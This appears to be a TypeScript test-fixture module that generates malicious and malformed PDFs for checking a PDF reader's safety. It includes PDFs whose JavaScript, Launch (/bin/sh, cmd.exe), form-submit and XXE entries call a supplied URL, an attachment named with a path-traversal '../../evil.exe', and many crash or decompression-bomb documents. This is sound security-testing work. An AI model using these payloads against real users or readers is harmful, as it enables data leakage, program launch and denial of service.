import { deflateSync } from 'node:zlib';
import { endlessPdf } from '../../integration/pdf/bad-pdfs.ts';

/** A PDF made to do something, or to break its reader. */
export interface OddPdf {
  readonly name: string;
  readonly bytes: Buffer;
}

const megabyte = 1024 * 1024;

/** A PDF of just these objects, the first of which is its catalogue; with a table of where they are. */
function pdfOf(objects: readonly (string | Buffer)[], trailer = ''): Buffer {
  const pieces: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  const places: number[] = [];
  const length = () => pieces.reduce((sum, { byteLength }) => sum + byteLength, 0);
  for (const [index, object] of objects.entries()) {
    places.push(length());
    pieces.push(Buffer.from(`${index + 1} 0 obj\n`), Buffer.from(object), Buffer.from('\nendobj\n'));
  }
  const table = places.map((place) => `${String(place).padStart(10, '0')} 00000 n \n`).join('');
  const start = length();
  const end = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n${table}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${trailer} >>\nstartxref\n${start}\n%%EOF\n`;
  return Buffer.concat([...pieces, Buffer.from(end)]);
}

function stream(content: string | Buffer, entries = ''): Buffer {
  const bytes = Buffer.from(content);
  return Buffer.concat([
    Buffer.from(`<< /Length ${bytes.byteLength} ${entries} >>\nstream\n`),
    bytes,
    Buffer.from('\nendstream'),
  ]);
}
const packed = (content: string | Buffer, entries = '') =>
  stream(deflateSync(content), `/Filter /FlateDecode ${entries}`);

interface Parts {
  /** What else the catalogue, the page and its resources hold. */
  readonly catalogue?: string;
  readonly page?: string;
  readonly resources?: string;
  readonly content?: string | Buffer;
  /** Numbered from 5. */
  readonly more?: readonly (string | Buffer)[];
}

function onePage({ catalogue = '', page = '', resources = '', content = 'BT ET', more = [] }: Parts): Buffer {
  return pdfOf([
    `<< /Type /Catalog /Pages 2 0 R ${catalogue} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 600 400] /Contents 4 0 R /Resources << ${resources} >> ${page} >>`,
    typeof content === 'string' ? stream(content) : content,
    ...more,
  ]);
}

/** What a PDF can ask for, each leading to the address. */
const actionsTo = (url: string): Readonly<Record<string, string>> => ({
  script: `<< /S /JavaScript /JS (fetch\\('${url}script'\\); app.launchURL\\('${url}launch'\\); this.submitForm\\('${url}form'\\);) >>`,
  address: `<< /S /URI /URI (${url}uri) >>`,
  program: `<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c start ${url}win) >> >>`,
  form: `<< /S /SubmitForm /F << /FS /URL /F (${url}submit) >> /Flags 4 >>`,
  'other file': `<< /S /GoToR /F << /FS /URL /F (${url}other.pdf) >> /D [0 /Fit] >>`,
  data: `<< /S /ImportData /F << /FS /URL /F (${url}data.fdf) >> >>`,
});

/** Where a PDF can say when, each with what is to be done. */
const triggers: Readonly<Record<string, (action: string) => Parts>> = {
  'when opened': (action) => ({ catalogue: `/OpenAction ${action}` }),
  'when closed, saved or printed': (action) => ({
    catalogue: `/AA << /WC ${action} /WS ${action} /DS ${action} /WP ${action} /DP ${action} >>`,
  }),
  'when the page is shown': (action) => ({ page: `/AA << /O ${action} /C ${action} >>` }),
  'at a link': (action) => ({
    page: `/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 600 400] /A ${action} /PA ${action} >>]`,
  }),
  'in a field': (action) => ({
    catalogue: '/AcroForm << /Fields [5 0 R] /NeedAppearances true >>',
    page: '/Annots [5 0 R]',
    more: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (a) /V (b) /Rect [0 0 600 400] /AA << ${['E', 'X', 'D', 'U', 'Fo', 'Bl', 'PO', 'PC', 'PV', 'PI', 'K', 'F', 'V', 'C'].map((key) => `/${key} ${action}`).join(' ')} >> >>`,
    ],
  }),
  'by its name': (action) => ({ catalogue: `/Names << /JavaScript << /Names [(a) ${action}] >> >>` }),
  'in the outline': (action) => ({
    catalogue: '/Outlines 5 0 R /PageMode /UseOutlines',
    more: ['<< /First 6 0 R /Last 6 0 R /Count 1 >>', `<< /Title (a) /Parent 5 0 R /A ${action} >>`],
  }),
  'after one another': (action) => ({
    catalogue: `/OpenAction << /S /Named /N /NextPage /Next [${action} ${action}] >>`,
  }),
};

const reachingOut = (url: string): readonly OddPdf[] =>
  Object.entries(actionsTo(url)).flatMap(([what, action]) =>
    Object.entries(triggers).map(([when, parts]) => ({ name: `${what} ${when}`, bytes: onePage(parts(action)) })),
  );

const loadingFrom = (url: string): readonly OddPdf[] => {
  const elsewhere = `/F << /FS /URL /F (${url}stream) >> /FFilter /FlateDecode`;
  return [
    { name: 'a page that is elsewhere', bytes: onePage({ content: stream('', elsewhere) }) },
    {
      name: 'a picture that is elsewhere',
      bytes: onePage({
        content: '/I Do',
        resources: '/XObject << /I 5 0 R >>',
        more: [
          stream(
            '',
            `/Type /XObject /Subtype /Image /Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace /DeviceGray ${elsewhere}`,
          ),
        ],
      }),
    },
    {
      name: 'a font that is elsewhere',
      bytes: onePage({
        content: 'BT /F 9 Tf (a) Tj ET',
        resources:
          '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 5 0 R >> >> >>',
        more: [stream('', elsewhere)],
      }),
    },
    {
      name: 'a form of XFA',
      bytes: onePage({
        catalogue: '/AcroForm << /XFA 5 0 R /Fields [] >>',
        more: [
          stream(
            `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform><field><event activity="initialize"><script contentType="application/x-javascript">fetch('${url}xfa')</script></event><ui><imageEdit data="${url}image"/></ui></field></subform></template></xdp:xdp>`,
          ),
        ],
      }),
    },
    {
      name: 'a program in its attachments',
      bytes: onePage({
        catalogue:
          '/Names << /EmbeddedFiles << /Names [(..\\\\..\\\\evil.exe) << /Type /Filespec /F (../../evil.exe) /EF << /F 5 0 R >> >>] >> >>',
        more: [stream('MZ', '/Type /EmbeddedFile')],
      }),
    },
    {
      name: 'metadata with an entity',
      bytes: onePage({
        catalogue: '/Metadata 5 0 R',
        more: [
          stream(
            `<!DOCTYPE x [<!ENTITY e SYSTEM "${url}entity">]><x:xmpmeta xmlns:x="adobe:ns:meta/">&e;</x:xmpmeta>`,
            '/Type /Metadata /Subtype /XML',
          ),
        ],
      }),
    },
  ];
};

const nested = (open: string, close: string, depth: number) => `${open.repeat(depth)}${close.repeat(depth)}`;
const image = (entries: string, content: Buffer): Buffer =>
  onePage({
    content: 'q 600 0 0 400 0 0 cm /I Do Q',
    resources: '/XObject << /I 5 0 R >>',
    more: [stream(content, `/Type /XObject /Subtype /Image ${entries}`)],
  });
const garbage = Buffer.from(Array.from({ length: 5000 }, (_, index) => (index * 7919) % 256));

async function breaking(): Promise<readonly OddPdf[]> {
  const made: readonly (readonly [string, Buffer | Uint8Array])[] = [
    ['forms that paint one another without end', await endlessPdf()],
    ['nothing', Buffer.alloc(0)],
    ['its first line alone', Buffer.from('%PDF-1.7\n')],
    ['zeros', Buffer.concat([Buffer.from('%PDF-1.7\n'), Buffer.alloc(megabyte)])],
    [
      'pages that hold themselves',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 2 >>']),
    ],
    ['a catalogue that is a number', pdfOf(['42'])],
    [
      'a milliard of pages',
      pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count 1000000000 >>']),
    ],
    ['fewer pages than none', pdfOf(['<< /Type /Catalog /Pages 2 0 R >>', '<< /Type /Pages /Kids [] /Count -5 >>'])],
    [
      'a table of places that leads to itself',
      Buffer.concat([
        onePage({}),
        Buffer.from('xref\n0 0\ntrailer\n<< /Size 1 /Root 1 0 R /Prev 9 >>\nstartxref\n9\n%%EOF'),
      ]),
    ],
    ['a page as large as a country', onePage({ page: '/MediaBox [0 0 1e9 1e9] /UserUnit 1e9' })],
    ['a page turned inside out', onePage({ page: '/MediaBox [600 400 -1e308 NaN] /Rotate 45' })],
    ['a content of 512 MB', onePage({ content: packed(Buffer.alloc(512 * megabyte, 0x20)) })],
    [
      'packed again and again',
      onePage({
        content: stream(
          deflateSync(deflateSync(deflateSync(Buffer.alloc(64 * megabyte)))),
          '/Filter [/FlateDecode /FlateDecode /FlateDecode]',
        ),
      }),
    ],
    [
      'a million letters',
      onePage({
        content: packed(`BT /F 9 Tf ${'(aaaaaaaaaa) Tj '.repeat(100_000)} ET`),
        resources: '/Font << /F << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >> >>',
      }),
    ],
    ['a million lines', onePage({ content: packed('0 0 m 9 9 l S\n'.repeat(1_000_000)) })],
    ['states saved and never restored', onePage({ content: packed('q '.repeat(500_000)) })],
    ['arrays in one another', onePage({ page: `/A ${nested('[', ']', 50_000)}` })],
    ['brackets in one another', onePage({ page: `/A ${nested('(', ')', 200_000)}` })],
    ['dictionaries in one another', onePage({ page: `/A ${nested('<</A ', '>>', 50_000)}` })],
    [
      '100,000 annotations',
      onePage({
        page: `/Annots [${'<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (a) >> '.repeat(100_000)}]`,
      }),
    ],
    ['100,000 contents', onePage({ page: `/Contents [${'4 0 R '.repeat(100_000)}]` })],
    [
      'a picture of a milliard dots',
      image('/Width 100000 /Height 100000 /BitsPerComponent 8 /ColorSpace /DeviceRGB', garbage),
    ],
    [
      'a picture of negative size',
      image('/Width -1 /Height 1e99 /BitsPerComponent 3 /ColorSpace /DeviceGray', garbage),
    ],
    ...[
      'JBIG2Decode',
      'JPXDecode',
      'DCTDecode',
      'CCITTFaxDecode',
      'LZWDecode',
      'RunLengthDecode',
      'ASCII85Decode',
      'Crypt',
      'Unheard',
    ].map(
      (filter) =>
        [
          `garbage for ${filter}`,
          image(`/Width 99 /Height 99 /BitsPerComponent 8 /ColorSpace /DeviceGray /Filter /${filter}`, garbage),
        ] as const,
    ),
    ['a colour space that is its own base', image('/Width 9 /Height 9 /BitsPerComponent 8 /ColorSpace 6 0 R', garbage)],
    [
      'a letter that paints itself',
      onePage({
        content: 'BT /F 9 Tf (aaa) Tj ET',
        resources: '/Font << /F 5 0 R >>',
        more: [
          '<< /Type /Font /Subtype /Type3 /FontBBox [0 0 9 9] /FontMatrix [1 0 0 1 0 0] /FirstChar 97 /LastChar 97 /Widths [9] /Encoding << /Differences [97 /a] >> /CharProcs << /a 6 0 R >> /Resources << /Font << /F 5 0 R >> >> >>',
          stream('9 0 d0 BT /F 9 Tf (aaa) Tj ET'),
        ],
      }),
    ],
    [
      'a font of garbage',
      onePage({
        content: 'BT /F 9 Tf (a) Tj ET',
        resources:
          '/Font << /F << /Type /Font /Subtype /TrueType /BaseFont /A /FontDescriptor << /Type /FontDescriptor /FontName /A /Flags 4 /FontFile2 5 0 R >> >> >>',
        more: [stream(garbage)],
      }),
    ],
    [
      'a map of letters without end',
      onePage({
        content: 'BT /F 9 Tf (a) Tj ET',
        resources:
          '/Font << /F << /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 5 0 R /DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A /CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>] >> >>',
        more: [stream(`begincmap\n${'1 beginbfrange <0000> <ffff> <0000> endbfrange\n'.repeat(200)}endcmap`)],
      }),
    ],
    [
      'a function that calculates for ever',
      onePage({
        content: '/P sh',
        resources: '/Shading << /P << /ShadingType 1 /ColorSpace /DeviceRGB /Domain [0 1 0 1] /Function 5 0 R >> >>',
        more: [stream(nested('{', '}', 10_000), '/FunctionType 4 /Domain [0 1 0 1] /Range [0 1 0 1 0 1]')],
      }),
    ],
    [
      'under a lock nobody knows',
      Buffer.from(
        onePage({})
          .toString('latin1')
          .replace(
            '/Root 1 0 R',
            '/Root 1 0 R /Encrypt << /Filter /Standard /V 99 /R 99 /Length 9999 /O () /U () /P -1 >> /ID [() ()]',
          ),
        'latin1',
      ),
    ],
    [
      'an object in a stream in itself',
      pdfOf([
        '<< /Type /Catalog /Pages 2 0 R >>',
        stream('2 0 << /Type /Pages >>', '/Type /ObjStm /N 1000000 /First 4 /Extends 2 0 R'),
      ]),
    ],
  ];
  return made.map(([name, bytes]) => ({ name, bytes: Buffer.from(bytes) }));
}

/**
 * PDFs that want to reach out, load, run or break.
 * @param url where all that they reach for is, with a slash at its end
 */
export async function oddPdfs(url: string): Promise<readonly OddPdf[]> {
  return [...reachingOut(url), ...loadingFrom(url), ...(await breaking())];
}
